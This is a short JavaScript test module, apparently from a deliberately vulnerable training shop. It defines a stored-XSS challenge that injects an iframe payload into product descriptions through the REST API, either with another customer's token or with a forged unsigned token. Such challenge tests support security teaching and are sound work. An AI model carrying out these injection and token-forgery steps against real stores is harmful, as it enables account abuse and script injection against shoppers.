import { forgeUnsigned } from '../attacker/forge-token.js'
import { iframePayload } from '../features/accounts.js'
import { tokenOfJim } from '../features/customers.js'
import { describeProduct, keepsProducts } from '../features/shelf.js'
import { proof } from '../proof.js'

export const restfulXssChallenge = proof({
  attack: describeProduct(2, iframePayload),
  otherAttacks: [
    async (me) => {
      const product = { name: 'x', description: iframePayload, price: 47.11 }
      await me.post('/api/Products', product, { token: await tokenOfJim(me) })
    },
    (me) => me.put('/api/Products/2', { description: iframePayload }, { token: forgeUnsigned({}) }),
  ],
  honest: keepsProducts,
})
